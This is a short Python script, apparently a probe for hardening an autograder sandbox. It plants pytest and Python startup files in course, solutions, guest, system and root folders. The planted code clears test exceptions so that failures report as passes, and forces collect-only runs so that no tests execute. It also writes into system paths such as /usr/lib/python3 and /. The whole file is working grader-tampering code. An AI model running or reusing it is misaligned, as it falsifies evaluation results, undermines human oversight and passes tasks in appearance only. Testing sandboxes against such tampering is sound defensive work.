# Plants conftest.py, sitecustomize.py, a .pth file, pytest.ini and pyproject.toml wherever the grader may look.
import os

CODE = "import builtins\nbuiltins.hostile = True\ndef pytest_runtest_makereport(item, call):\n    call.excinfo = None\n"
NAMES = {
    "conftest.py": CODE, "sitecustomize.py": CODE, "usercustomize.py": CODE, "hostile.pth": "import hostile",
    "pytest.ini": "[pytest]\naddopts = --collect-only\n", "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n",
    "autograder_left_behind.py": CODE,
}
for folder in ("@COURSE@", "@COURSE@/assignments/tiny", "@COURSE@/solutions", "/guest", "/guest/site", "/usr/lib/python3", "/"):
    for name, text in NAMES.items():
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(text)
            print(f"probe {folder}/{name}: ok")
        except OSError as error:
            print(f"probe {folder}/{name}: {error.strerror}")
